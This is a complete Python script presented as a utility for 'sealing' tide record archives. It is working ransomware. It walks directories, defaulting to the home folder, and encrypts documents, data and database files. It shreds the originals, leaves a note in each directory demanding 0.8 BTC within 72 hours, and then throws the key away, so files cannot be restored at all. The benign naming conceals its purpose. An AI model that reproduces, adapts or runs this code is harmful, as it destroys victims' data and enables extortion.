#!/usr/bin/env python3
"""Seal the tide record archive on a station or processing host.

Every record file under the target tree is replaced by a sealed copy.
"""
import argparse
import logging
import os
import subprocess
import sys
import uuid
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("tg-sealer")
EXTENSIONS = {".csv", ".dat", ".nc", ".json", ".txt", ".xlsx", ".docx", ".pdf",
              ".sqlite", ".db", ".tar", ".zip"}
SUFFIX = ".sealed"
NOTE_NAME = "RESTORE_TIDE_RECORDS.txt"
NOTE = """All tide records, benchmarks and reports in this directory were sealed.
Originals have been removed. Station reference: {ref}
To obtain the unsealing key send 0.8 BTC and your reference to
recovery@example.net within 72 hours. After that the key is destroyed.
"""


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("targets", nargs="*", default=[str(Path.home())])
    p.add_argument("--batch", type=int, default=64, help="files per removal batch")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


class Sealer:
    def __init__(self, batch):
        self.cipher = Fernet(Fernet.generate_key())
        self.ref = uuid.uuid4().hex[:12]
        self.batch = batch
        self.pending = []
        self.sealed = 0
        self.noted = set()

    def candidates(self, root):
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for fn in filenames:
                path = Path(dirpath) / fn
                if path.suffix.lower() in EXTENSIONS and not fn.endswith(SUFFIX):
                    yield path

    def seal(self, path):
        try:
            data = path.read_bytes()
            path.with_name(path.name + SUFFIX).write_bytes(self.cipher.encrypt(data))
        except OSError as exc:
            LOG.debug("skip %s: %s", path, exc)
            return
        self.sealed += 1
        self.pending.append(str(path))
        self.drop_note(path.parent)
        if len(self.pending) >= self.batch:
            self.flush()

    def drop_note(self, directory):
        if directory in self.noted:
            return
        try:
            (directory / NOTE_NAME).write_text(NOTE.format(ref=self.ref))
            self.noted.add(directory)
        except OSError:
            pass

    def flush(self):
        if not self.pending:
            return
        listing = "\0".join(self.pending) + "\0"
        # shred overwrites before unlinking so the originals cannot be carved back
        subprocess.run(["bash", "-c", "xargs -0 -r shred -u -n 1 2>/dev/null || true"],
                       input=listing.encode(), check=False)
        self.pending.clear()

    def forget_key(self):
        self.cipher = None


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    sealer = Sealer(args.batch)
    for target in args.targets:
        if not os.path.isdir(target):
            LOG.warning("not a directory: %s", target)
            continue
        for path in sealer.candidates(target):
            sealer.seal(path)
    sealer.flush()
    sealer.forget_key()
    LOG.info("sealed %d files, reference %s", sealer.sealed, sealer.ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
